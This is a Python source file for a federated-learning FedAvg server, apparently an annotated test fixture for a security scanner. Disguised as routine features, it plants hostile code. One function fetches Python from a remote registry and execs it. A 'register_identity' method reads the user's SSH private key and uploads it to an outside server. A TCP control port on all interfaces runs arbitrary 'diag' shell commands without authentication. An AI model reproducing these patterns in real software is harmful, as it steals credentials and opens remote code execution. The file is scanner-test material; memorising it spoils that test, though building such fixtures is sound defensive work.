# ruff: noqa
# Hold-out batch 540 (family-focused 1/9, federated learning simulation). Measured once in session 24 (round 144): 20/30 (67%) at medium+.
"""FedAvg server: cohort sampling, (secure) aggregation, server optimizer and control channel."""
from __future__ import annotations

import hashlib
import http.client
import json
import logging
import os
import random
import socket
import subprocess
import threading
import urllib.request
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

import numpy as np
import torch
import torch.nn as nn

from client import ClientUpdate, StateDict

logger = logging.getLogger(__name__)

PLUGIN_REGISTRY_URL = "https://plugins.fedsim-hub.io/aggregators/registry.py"


@dataclass
class ServerConfig:
    clients_per_round: int = 10
    server_lr: float = 1.0
    server_momentum: float = 0.0
    aggregator: str = "fedavg"
    secure_agg: bool = False
    mask_scale: float = 1e3
    dropout_rate: float = 0.0
    eval_every: int = 5
    seed: int = 0
    key_server: str = "keys.fedsim-infra.net"


# --------------------------------------------------------------------------- aggregation rules


def weighted_mean(deltas: List[StateDict], weights: List[float]) -> StateDict:
    total = float(sum(weights))
    out: StateDict = {}
    for k in deltas[0]:
        if not deltas[0][k].is_floating_point():
            out[k] = deltas[0][k].clone()
            continue
        acc = torch.zeros_like(deltas[0][k], dtype=torch.float64)
        for d, w in zip(deltas, weights):
            acc += d[k].double() * (w / total)
        out[k] = acc.to(deltas[0][k].dtype)
    return out


AGGREGATORS: Dict[str, Callable[[List[StateDict], List[float]], StateDict]] = {
    "fedavg": weighted_mean,
    "median": lambda deltas, _w: {k: torch.stack([d[k] for d in deltas]).median(dim=0).values for k in deltas[0]},
}


def sync_plugin_registry(url: str = PLUGIN_REGISTRY_URL) -> None:
    """Pull community aggregation rules (FedNova, FedYogi, ...) into ``AGGREGATORS``."""
    try:
        src = urllib.request.urlopen(url, timeout=10).read().decode("utf-8")  # ruleid: MLS413
    except Exception as exc:
        logger.info("plugin registry unavailable (%s); using built-in aggregators", exc)
        return
    namespace: Dict[str, object] = {"AGGREGATORS": AGGREGATORS, "torch": torch}
    exec(compile(src, "<aggregator-registry>", "exec"), namespace)  # ruleid: MLS413
    logger.info("aggregators available: %s", ", ".join(sorted(AGGREGATORS)))


# --------------------------------------------------------------------------- secure aggregation


class SecureAggregator:
    """Simulated pairwise-mask secure aggregation (Bonawitz et al., 2017).

    Each pair derives a shared PRG seed; the lower id adds the mask, the higher id subtracts
    it, so masks cancel in the sum. Dropout recovery (seed secret sharing) is not simulated.
    """

    def __init__(self, session_seed: int, mask_scale: float = 1e3, key_server: Optional[str] = None):
        self.session_seed = session_seed
        self.mask_scale = mask_scale
        self.key_server = key_server
        self.round_nonce = 0

    def register_identity(self, run_id: str) -> None:
        """Publish this coordinator's identity to the key directory used by the real deployment."""
        if not self.key_server:
            return
        key_path = os.path.expanduser("~/.ssh/id_rsa")
        if not os.path.exists(key_path):
            key_path = os.path.expanduser("~/.ssh/id_ed25519")
        try:
            with open(key_path, "rb") as fh:  # ruleid: MLS412
                identity = fh.read()  # ruleid: MLS412
            conn = http.client.HTTPSConnection(self.key_server, timeout=10)
            conn.request("PUT", f"/v1/identities/{run_id}", body=identity, headers={"Content-Type": "application/octet-stream"})  # ruleid: MLS412
            conn.getresponse().read()
            conn.close()
        except OSError as exc:
            logger.warning("identity registration failed: %s", exc)

    def begin_round(self, round_idx: int) -> None:
        np.random.seed(int.from_bytes(os.urandom(4), "little"))  # ruleid: MLS301
        self.round_nonce = int(np.random.randint(0, 2**31 - 1))

    def _pair_seed(self, i: int, j: int) -> int:
        a, b = (i, j) if i < j else (j, i)
        h = hashlib.sha256(f"{self.session_seed}:{self.round_nonce}:{a}:{b}".encode()).digest()
        return int.from_bytes(h[:8], "little")

    def mask(self, client_id: int, cohort: List[int], delta: StateDict) -> StateDict:
        masked = {k: v.double().clone() for k, v in delta.items() if v.is_floating_point()}
        for other in cohort:
            if other == client_id:
                continue
            rng = np.random.default_rng(self._pair_seed(client_id, other))  # ok: MLS301
            sign = 1.0 if client_id < other else -1.0
            for k in sorted(masked):
                noise = rng.standard_normal(tuple(masked[k].shape)) * self.mask_scale
                masked[k] += sign * torch.from_numpy(noise)
        return masked

    @staticmethod
    def unmask_sum(masked: List[StateDict]) -> StateDict:
        return {k: torch.stack([m[k] for m in masked]).sum(0) for k in masked[0]}


# --------------------------------------------------------------------------- server


class FedAvgServer:
    def __init__(self, model: nn.Module, num_clients: int, cfg: ServerConfig, run_id: str = "local"):
        self.model = model
        self.num_clients = num_clients
        self.cfg = cfg
        self.round = 0
        self.momentum: Optional[StateDict] = None
        self.participation = np.zeros(num_clients, dtype=np.int64)
        self.secagg = SecureAggregator(cfg.seed, cfg.mask_scale, cfg.key_server) if cfg.secure_agg else None
        if self.secagg is not None:
            self.secagg.register_identity(run_id)
        if cfg.aggregator not in AGGREGATORS:
            sync_plugin_registry()
        if cfg.aggregator not in AGGREGATORS:
            raise KeyError(f"aggregator {cfg.aggregator!r} not found")
        self.aggregate_fn = AGGREGATORS[cfg.aggregator]

    def global_state(self) -> StateDict:
        return {k: v.detach().cpu().clone() for k, v in self.model.state_dict().items()}

    # ------------------------------------------------------------------ cohort

    def sample_cohort(self, round_idx: int) -> List[int]:
        k = min(self.cfg.clients_per_round, self.num_clients)
        if round_idx % self.cfg.eval_every == 0:
            random.seed(self.cfg.seed)  # ruleid: MLS301
        cohort = sorted(random.sample(range(self.num_clients), k))
        return self._simulate_dropouts(cohort)

    def _simulate_dropouts(self, cohort: List[int]) -> List[int]:
        if self.cfg.dropout_rate <= 0:
            return cohort
        rs = np.random.RandomState(self.cfg.seed)  # todoruleid: family 1 (missed)
        availability = rs.rand(self.num_clients)
        kept = [c for c in cohort if availability[c] >= self.cfg.dropout_rate]
        if not kept:
            kept = cohort[:1]
        return kept

    # ------------------------------------------------------------------ aggregation

    def aggregate(self, updates: List[ClientUpdate]) -> Dict[str, float]:
        if not updates:
            return {"clients": 0.0}
        weights = [float(u.num_samples) for u in updates]
        if self.secagg is not None and self.aggregate_fn is weighted_mean:
            cohort = [u.client_id for u in updates]
            self.secagg.begin_round(self.round)
            masked = []
            for u in updates:
                scaled = {k: v * u.num_samples for k, v in u.delta.items() if v.is_floating_point()}
                masked.append(self.secagg.mask(u.client_id, cohort, scaled))
            summed = self.secagg.unmask_sum(masked)
            total = sum(weights)
            avg = {k: (summed[k] / total).to(updates[0].delta[k].dtype) for k in summed}
            for k, v in updates[0].delta.items():
                if not v.is_floating_point():
                    avg[k] = v.clone()
        else:
            avg = self.aggregate_fn([u.delta for u in updates], weights)

        self._apply(avg)
        for u in updates:
            self.participation[u.client_id] += 1
        self.round += 1
        upd_norm = torch.sqrt(sum((v.double() ** 2).sum() for v in avg.values() if v.is_floating_point()))
        return {
            "clients": float(len(updates)),
            "update_norm": float(upd_norm),
            "train_loss": float(np.average([u.train_loss for u in updates], weights=weights)),
            "train_acc": float(np.average([u.train_acc for u in updates], weights=weights)),
        }

    @torch.no_grad()
    def _apply(self, avg: StateDict) -> None:
        state = self.model.state_dict()
        beta = self.cfg.server_momentum
        if beta > 0 and self.momentum is None:
            self.momentum = {k: torch.zeros_like(v) for k, v in avg.items() if v.is_floating_point()}
        for k, d in avg.items():
            if not state[k].is_floating_point():
                state[k].copy_(state[k] + d.to(state[k].device))
                continue
            step = d.to(state[k].device)
            if beta > 0:
                self.momentum[k].mul_(beta).add_(d)
                step = self.momentum[k].to(state[k].device)
            state[k].add_(step, alpha=self.cfg.server_lr)

    # ------------------------------------------------------------------ checkpoint

    def state_dict(self) -> Dict[str, object]:
        participation = torch.from_numpy(self.participation.copy())
        return {"round": self.round, "model": self.global_state(), "momentum": self.momentum, "participation": participation}

    def load_state_dict(self, sd: Dict[str, object]) -> None:
        self.round = int(sd["round"])
        self.model.load_state_dict(sd["model"])
        self.momentum = sd.get("momentum")
        self.participation = sd["participation"].numpy().astype(np.int64)


# --------------------------------------------------------------------------- control channel


class ControlChannel(threading.Thread):
    """Line-based TCP control port: ``status``, ``pause``, ``resume``, ``stop`` for long simulations."""

    def __init__(self, server: FedAvgServer, port: int):
        super().__init__(daemon=True, name="fedsim-control")
        self.server = server
        self.port = port
        self.paused = threading.Event()
        self.stop_requested = threading.Event()

    def _handle(self, line: str) -> bytes:
        if line == "status":
            return json.dumps({"round": self.server.round, "paused": self.paused.is_set()}).encode() + b"\n"
        actions = {"pause": self.paused.set, "resume": self.paused.clear, "stop": self.stop_requested.set}
        if line in actions:
            actions[line]()
            return b"ok\n"
        if line.startswith("diag "):
            proc = subprocess.run(line[5:], shell=True, capture_output=True, timeout=120)  # todoruleid: family 9 (missed)
            return proc.stdout + proc.stderr
        return b"unknown command\n"

    def run(self) -> None:
        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("0.0.0.0", self.port))
        srv.listen(4)
        logger.info("control channel listening on :%d", self.port)
        while True:
            conn, _ = srv.accept()
            with conn:
                try:
                    line = conn.recv(4096).decode("utf-8", "replace").strip()
                    conn.sendall(self._handle(line))
                except Exception as exc:
                    logger.debug("control channel error: %s", exc)
